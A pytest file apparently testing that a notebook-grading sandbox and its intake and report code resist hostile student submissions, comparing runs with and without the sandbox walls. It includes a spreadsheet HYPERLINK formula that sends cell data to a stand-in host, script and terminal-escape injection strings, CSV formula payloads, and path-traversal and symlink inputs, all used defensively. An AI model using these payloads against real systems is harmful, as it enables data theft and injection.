"""Attack submissions: none gets a hidden point, none reaches anything.

Each is graded by a key of a real lesson, in a cold and in a warm sandbox, and afterwards no file
lies outside, no process is left, no time was lost, and a right answer still has full marks.
"""

import dataclasses
import functools
import hashlib
import itertools
import json
import logging
import math
import os
import re
import socket
import subprocess
import time
from pathlib import Path

import pytest

from classroom import extract, grading, intake, judge, sandbox
from classroom.assignment import make_assignment
from classroom.environment import ROOT
from classroom.export import csv_text, table
from classroom.gradebook import Row
from classroom.grading import GRADED, NEEDS_ATTENTION, Grade, grade
from classroom.intake import collect
from classroom.key import Key, save_key
from classroom.limits import Limits
from classroom.report import class_page, file_name, student_page
from classroom.roster import Student
from classroom.sandbox import Sandbox, Session
from tests.classroom import handing_in
from tests.classroom.attacks import PWNED, Attack, doors, files, general, protocol
from tests.classroom.handing_in import KEY, Shared, needs_sandbox, notebook, rights

SECRET = "nobody-is-to-read-this"
CANARY = "the-teachers-own-word"
LIMITS = Limits(call=6.0)
QUICK = 1.0  # seconds for an attack that hangs by intent
BOUND = 60.0  # seconds for one attack, two new sandboxes included
ALL = [*general.ATTACKS, *protocol.ATTACKS, *doors.ATTACKS]
RIGHT = Attack(
    "the reference",
    "with tf.GradientTape() as tape:\n    tape.watch(x)\n    y = function(x)\n"
    "return tape.gradient(y, x)",
)


def test_there_are_enough_and_no_two_of_one_name():
    names = [attack.name for attack in ALL] + [*files.NOTEBOOKS, *files.PARCELS]
    assert len(general.ATTACKS) + len(protocol.ATTACKS) >= 60
    assert len(protocol.ATTACKS) >= 25
    assert len(set(names)) == len(names)


@functools.cache
def whole_key() -> Key:
    return make_assignment(["unwatched_tensor"], None, secret=SECRET)


def test_making_a_key_leaves_tensorflows_log_as_it_was():
    import tensorflow as tf

    before = tf.get_logger().level
    try:
        tf.get_logger().setLevel("INFO")
        make_assignment(["unwatched_tensor"], None, secret=SECRET)
        assert tf.get_logger().level == logging.INFO
    finally:
        tf.get_logger().setLevel(before)


def small_key() -> Key:
    """The first public question and its hidden twin: two processes an attack, not six."""
    task = whole_key().tasks[0]
    hidden = [probe for probe in task.probes if probe.group == "hidden"]
    assert task.probes[0].label == hidden[0].label
    probes = (task.probes[0], hidden[0])
    return dataclasses.replace(
        whole_key(), tasks=(dataclasses.replace(task, probes=probes, wrong=()),)
    )


# ---- the world around the sandbox, which nothing may reach


@dataclasses.dataclass
class World:
    teacher: Path  # the folder of the key
    server: socket.socket
    neighbour: subprocess.Popen
    places: list[str]

    def settings(self, keys: list[str]) -> str:
        answer = small_key().tasks[0].probes[1].expected["values"][0]
        return (
            f"import tensorflow as tf\nPORT = {self.server.getsockname()[1]}\nKEYS = {keys!r}\n"
            f"PLACES = {self.places!r}\nCANARY = {CANARY[::-1]!r}\nANSWER = {answer[::-1]!r}\n"
        )


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    needs_sandbox()
    teacher = tmp_path_factory.mktemp("teacher")
    save_key(small_key(), teacher / "key.json")
    os.environ["CLASSROOM_CANARY"] = CANARY
    neighbour = subprocess.Popen(["sleep", "600"])
    places = [str(ROOT), str(teacher), str(Path.home()), *map(str, sandbox.package_folders())]
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        yield World(teacher, server, neighbour, places)
    neighbour.kill()
    neighbour.wait()
    del os.environ["CLASSROOM_CANARY"]


class Unstartable(Sandbox):
    def __init__(self):
        self.limits, self.kind, self.warm = LIMITS, "bubblewrap", False

    def session(self):
        raise AssertionError("a sandbox was started")


class Cold(Shared):
    def pid(self) -> int | None:
        return self.shared.end.__self__.popen.pid if self.shared else None


class Warm(Sandbox):
    def pid(self) -> int | None:
        return self.kept.popen.pid if self.kept else None


@pytest.fixture(scope="module", params=["cold", "warm"])
def place(request, world):
    limits = dataclasses.replace(LIMITS)
    with Cold(limits) if request.param == "cold" else Warm(limits, warm=True) as made:
        digest = tree_digest(sandbox.grader_folder())
        yield made
        assert tree_digest(sandbox.grader_folder()) == digest
        assert strike(RIGHT, made, world).points == small_key().points, "it still grades"
    assert descendants(os.getpid()) <= {world.neighbour.pid}


def tree_digest(folder: Path) -> str:
    files = sorted(file for file in folder.rglob("*") if file.is_file())
    return hashlib.sha256(b"".join(str(f).encode() + f.read_bytes() for f in files)).hexdigest()


def descendants(pid: int) -> set[int]:
    """All processes below one, in whatever namespace, session or group they are."""
    children: dict[int, list[int]] = {}
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            after_name = Path(f"/proc/{name}/stat").read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if after_name[0] != "Z":
            children.setdefault(int(after_name[1]), []).append(int(name))
    found, waiting = set(), [pid]
    while waiting:
        below = children.get(waiting.pop(), [])
        found.update(below)
        waiting += below
    return found


def strike(attack: Attack, made: Sandbox, world: World, keys: list[str] | None = None) -> Grade:
    call = QUICK if attack.hangs else LIMITS.call
    made.limits = dataclasses.replace(LIMITS, call=call)
    keys = keys or [str(world.teacher / "key.json"), "/proc/1/root" + str(world.teacher)]
    head, _, rest = attack.cell.partition("\n")
    source = f"{head}\n{world.settings(keys)}{rest}"
    setup = small_key().tasks[0].setup
    data = json.loads(notebook(*setup, "pass"))
    data["cells"][-1]["source"] = source
    return grade(json.dumps(data).encode(), "exercise.ipynb", small_key(), made)


def said_in(graded: Grade) -> str:
    """All that a student will read of it."""
    lines = [(task.headline, task.lines) for task in graded.tasks]
    return json.dumps([graded.reason, graded.notes, lines], ensure_ascii=False)


@pytest.mark.parametrize("attack", ALL, ids=lambda attack: attack.name)
def test_an_attack_gains_nothing(attack, place, world):
    began = time.monotonic()
    graded = strike(attack, place, world)
    assert time.monotonic() - began < BOUND
    said = said_in(graded)
    assert graded.state == GRADED, graded.reason
    assert rights(graded, "input_gradient", "hidden") == [False]
    assert graded.points <= 0.4 * graded.possible + 0.01
    if attack.shown:
        assert attack.shown in said
    assert not attack.never or attack.never not in said, said
    hidden = small_key().tasks[0].probes[1]
    for secret in (CANARY, SECRET, str(hidden.vary), *hidden.expected["values"]):
        assert secret not in said
    assert_nothing_is_reached(place, world)


def assert_nothing_is_reached(made, world: World) -> None:
    everywhere = ["/", "/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), *world.places]
    for folder in [*everywhere, sandbox.grader_folder(), sandbox.grader_folder() / "classroom"]:
        assert not os.path.lexists(os.path.join(folder, PWNED)), folder
    with pytest.raises(BlockingIOError):
        world.server.accept()
    assert world.neighbour.poll() is None
    assert json.loads((world.teacher / "key.json").read_text())["tasks"]
    below = descendants(made.pid()) if made.pid() else set()
    assert len(below) <= 1, "bubblewrap's child alone is left"
    assert descendants(os.getpid()) - {world.neighbour.pid, made.pid()} <= below


def test_right_answers_have_full_marks_by_the_same_key(place, world):
    """So the attacks fail for what they are, and not because nothing would pass."""
    graded = strike(RIGHT, place, world)
    assert graded.points == graded.possible == small_key().points


# ---- what the walls are worth: without them the same attacks succeed


def test_without_the_walls_attacks_succeed(monkeypatch, world, tmp_path):
    hidden = small_key().tasks[0].probes[1].expected["values"]
    real_command, real_files, real_ask = (
        sandbox.bubblewrap_command, sandbox.file_system, Session.ask,
    )  # fmt: skip
    world.teacher.chmod(0o755)
    (world.teacher / "key.json").chmod(0o644)
    weak = tmp_path / "grader"
    for file in sandbox.grader_folder().rglob("*.py"):
        copy = weak / file.relative_to(sandbox.grader_folder())
        copy.parent.mkdir(parents=True, exist_ok=True)
        text = file.read_text()
        if file.name == "worker.py":
            assert text.count("confine.forbid_system_calls()") == 1
            text = text.replace("confine.forbid_system_calls()", "pass")
        copy.write_text(text)
    for folder in (tmp_path, weak, *weak.rglob("*")):
        folder.chmod(0o755)

    def command(*arguments):
        return [word for word in real_command(*arguments) if word != "--unshare-net"]

    def shown(*arguments):
        rows = real_files(*arguments)
        return [*rows[:-2], "--ro-bind", str(world.teacher), "/keys", *rows[-2:]]

    monkeypatch.setattr(sandbox, "bubblewrap_command", command)
    monkeypatch.setattr(sandbox, "file_system", shown)
    monkeypatch.setattr(sandbox, "grader_folder", lambda: weak)
    monkeypatch.setattr(
        Session, "ask", lambda self, job, s: real_ask(self, {**job, "expected": hidden}, s)
    )
    attacks = {attack.name: attack for attack in ALL}
    with Cold(LIMITS) as open_to_all:

        def hit(name: str) -> Grade:
            return strike(attacks[name], open_to_all, world, ["/keys/key.json"])

        for name in (
            "expected values on the stack",
            "expected values among all objects",
            "the key by its path",
            "the key, the gradebook and other submissions by a walk",
        ):
            assert rights(hit(name), "input_gradient", "hidden") == [True], name
        assert "REACHED" in said_in(hit("network by name and by number"))
        world.server.accept()[0].close()
        while True:
            try:
                world.server.accept()[0].close()
            except BlockingIOError:
                break
        assert "CARRIED" in said_in(hit("questions kept in the kernel"))
        assert "SLOWED" in said_in(hit("the supervisor's share of the processor"))


def test_where_a_word_of_the_students_is_believed_the_key_looks_broken(monkeypatch, place, world):
    real = grading.Run.ask

    def asks_the_student_again(self, task, probes, do="call"):
        return real(self, task, probes, "call" if do == "make" else do)

    monkeypatch.setattr(grading.Run, "ask", asks_the_student_again)
    forged = next(a for a in ALL if a.name == "a program that is said to be broken")
    assert strike(forged, place, world).state == NEEDS_ATTENTION


def test_where_values_are_compared_in_one_process_an_object_may_equal_everything():
    class Same:
        def __eq__(self, other):
            return True

    assert Same() == 2.0  # what a grader that writes `answer == expected` does


def test_a_pattern_that_looks_back_hangs_where_ours_does_not(monkeypatch):
    """The text that hung the pattern we had: the time grows with its square."""
    before = re.compile(r"^\s*(.*?)\[(markdown|md|raw)\]")
    seconds = []
    for pattern in (before, extract.TEXT_CELL):
        began = time.perf_counter()
        assert not pattern.search(" " * 6000)
        seconds.append(time.perf_counter() - began)
    assert seconds[0] > 20 * seconds[1]


def test_a_submission_that_brings_sandboxes_down_is_given_a_few():
    begun = []

    class Lost:
        def ask(self, job, seconds):
            raise sandbox.SandboxFailed("gone")

        def close(self):
            begun.append(self)

    class Fragile(Unstartable):
        def session(self):
            return Lost()

    graded = grade(notebook(handing_in.SLOPE, handing_in.COUNT), "a.ipynb", KEY, Fragile())
    assert graded.state == GRADED and graded.points == 0
    assert len(begun) == grading.MOST_LOST < 2 * sum(len(task.probes) for task in KEY.tasks)


def test_our_packages_are_covered_wherever_they_are_installed(monkeypatch, tmp_path):
    needs_sandbox()
    (tmp_path / "whynone").mkdir()
    monkeypatch.setattr(sandbox, "package_folders", lambda: (tmp_path,))
    monkeypatch.setattr(sandbox, "visible", sandbox.visible.__wrapped__)
    rows = sandbox.file_system(LIMITS, ())
    pairs = list(itertools.pairwise(rows))
    assert ("--ro-bind", str(tmp_path)) in pairs
    covered = str(tmp_path / "whynone")
    assert ("--tmpfs", covered) in pairs and ("--remount-ro", covered) in pairs


@pytest.mark.parametrize("got", [(1e308, 1e308), (-math.inf, 2.0), (math.nan, 1.0), (0.0, 5e-324)])
@pytest.mark.parametrize("expected", [(1e-11, 2.0), (math.inf, 1.0), (1e300, 1e-300)])
@pytest.mark.filterwarnings("error")
def test_no_number_makes_the_judge_speak(expected, got):
    ours, theirs = (
        {"kind": "tensor", "shape": [2], "dtype": "float64", "values": [n.hex() for n in numbers]}
        for numbers in (expected, got)
    )
    assert judge.difference(ours, theirs, 1e-5, 1e-6)


# ---- files that are never run


@pytest.mark.parametrize("name", files.NOTEBOOKS)
def test_a_hostile_file_is_named_and_put_aside(name):
    file, data, reason = files.NOTEBOOKS[name]
    began = time.monotonic()
    graded = grade(data, file, small_key(), Unstartable())
    assert time.monotonic() - began < 10
    assert graded.state == NEEDS_ATTENTION and graded.points == 0
    assert re.search(reason, graded.reason), graded.reason
    assert graded.reason.isprintable() and len(graded.reason) <= grading.LONGEST


@pytest.mark.parametrize(
    "order",
    [
        ["stub", "hard", "stub"],
        ["hard", "hard", "stub"],
        ["other", "hard"],
        ["hard", "redefined"],
        ["id", "hard"],
    ],
    ids=" ".join,
)
def test_duplicated_and_reordered_cells_gain_nothing(order, place, world):
    stub = small_key().tasks[0].stub
    hard = Attack("", "return HARD").cell
    cell = {
        "stub": stub,
        "hard": hard,
        "other": "# TASK: another_task\n# TASK: ../key\nx = 1",
        "redefined": "def input_gradient(*_):\n    return None\nclass task: pass",
        "id": "import tensorflow as tf",
    }
    ids = [f"task-input_gradient{'x' * n if n else ''}" for n in range(9)]
    data = notebook("import tensorflow as tf", *(cell[name] for name in order), ids=ids)
    graded = grade(data, "../../etc/exercise.ipynb", small_key(), place)
    assert graded.state == GRADED
    assert rights(graded, "input_gradient", "hidden") == [False]
    assert_nothing_is_reached(place, world)


ADA = Student("ada", "Ada Lovelace", "ada@example.org", "4711", "102")
GRACE = Student("grace", "Grace Hopper", "grace@example.org", "4712", "103")
ADAS = files.cells("ada = 1")


@pytest.mark.parametrize("name", files.PARCELS)
@pytest.mark.parametrize("way", ["folder of archives", "archive of archives", "Gradescope's"])
def test_a_parcel_is_nobodys_but_its_senders(name, way, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # where a command of the parcel's would leave its file
    parcel = files.archive(*files.PARCELS[name])
    own = b'"submission_1":\n  :submitters:\n  - :sid: ada\n'
    own += b'"submission_2":\n  :submitters:\n  - :sid: grace\n'
    members = {
        "folder of archives": [("ada.ipynb", ADAS), ("grace.zip", parcel)],
        "archive of archives": [("ada.ipynb", ADAS), ("grace.zip", parcel)],
        "Gradescope's": [
            ("export/submission_metadata.yml", own),
            ("export/submission_1/a.ipynb", ADAS),
            ("export/submission_2/a.zip", parcel),
        ],
    }[way]
    given = tmp_path / "given"
    given.mkdir()
    if way.startswith("folder"):
        for path, data in members:
            (given / path).write_bytes(data)
        where = given
    else:
        where = given / "all.zip"
        where.write_bytes(files.archive(*members))
    before = sorted(tmp_path.rglob("*"))
    began = time.monotonic()
    taken = collect(where, (ADA, GRACE))
    assert time.monotonic() - began < 20
    assert sorted(tmp_path.rglob("*")) == before, "nothing is unpacked onto the disk"
    assert not (tmp_path / "pwned").exists()
    by_student = {one.student: one for one in taken.submissions}
    assert [data for _, data in by_student["ada"].files] == [ADAS]
    assert set(by_student) <= {"ada", "grace"}
    if "grace" in by_student:
        assert sum(len(data) for _, data in by_student["grace"].files) <= intake.LARGEST_ZIP


def test_without_its_own_room_one_parcel_takes_everybodys(monkeypatch, tmp_path):
    monkeypatch.setattr(intake, "LARGEST_ALL", 64 << 20)
    zeros, large = [(f"{n}.ipynb", bytes(4 << 20)) for n in range(16)], files.NB + b" " * (4 << 20)
    lms = tmp_path / "all.zip"
    lms.write_bytes(files.archive(("ada.zip", files.archive(*zeros)), ("grace.ipynb", large)))
    assert "grace" in {one.student for one in collect(lms, (ADA, GRACE)).submissions}
    monkeypatch.setattr(intake, "LARGEST_ZIP", 1 << 30)  # no room of one's own
    assert "grace" not in {one.student for one in collect(lms, (ADA, GRACE)).submissions}


def test_links_and_devices_in_a_folder_are_not_read(tmp_path):
    (tmp_path / "key.json").write_text(CANARY)
    given = tmp_path / "given"
    (given / "grace").mkdir(parents=True)
    (given / "grace" / "a.ipynb").symlink_to(tmp_path / "key.json")
    (given / "grace" / "b.ipynb").symlink_to("/dev/zero")
    os.mkfifo(given / "grace" / "c.ipynb")
    (given / "ada").symlink_to(tmp_path)
    taken = collect(given, (ADA, GRACE))
    assert not taken.submissions and len(taken.refused) == 4


# ---- what students write where teachers read


HOSTILE = '=HYPERLINK("http://x/?"&A1)<script>alert(1)</script>\x1b[2J\u202e`</code><b>`'


def hostile_row(student: str) -> Row:
    probe = grading.ProbeGrade("a", "public", False)
    lines = (("came back", grading.clean(HOSTILE)), ("line", grading.clean(HOSTILE)))
    task = grading.TaskGrade("input_gradient", 0.0, 4.0, (probe,), HOSTILE, lines)
    graded = Grade(GRADED, HOSTILE, "0" * 64, 1.0, (task,), (HOSTILE,))
    return Row(student, student, False, "0" * 64, "k", 0, None, graded, {"": (None, HOSTILE)})


@pytest.mark.parametrize(
    "student", [HOSTILE, "../../x", "+1+1", "@SUM(A1)", "\t=1", "a\nb", "x" * 999]
)
def test_names_and_messages_stay_text(student):
    row = hostile_row(student)
    attention = dataclasses.replace(
        row, student=student + "2", grade=Grade(NEEDS_ATTENTION, HOSTILE, "0" * 64, 1.0)
    )
    pages = [student_page(row, small_key()), student_page(attention, small_key(), HOSTILE),
             class_page([row, attention], small_key())]  # fmt: skip
    for page in pages:
        assert "<script" not in page and "<b>" not in page
        assert "\x1b" not in page and "\u202e" not in page
    import csv

    for line in csv.reader(csv_text(table([row, attention])).splitlines(keepends=True)):
        for cell in line:
            assert not cell.lstrip().startswith(("=", "+", "@", "\t")), cell
    name = file_name(student)
    assert re.fullmatch(r"[\w][\w.@-]{0,110}", name) and ".." not in name.split("/")
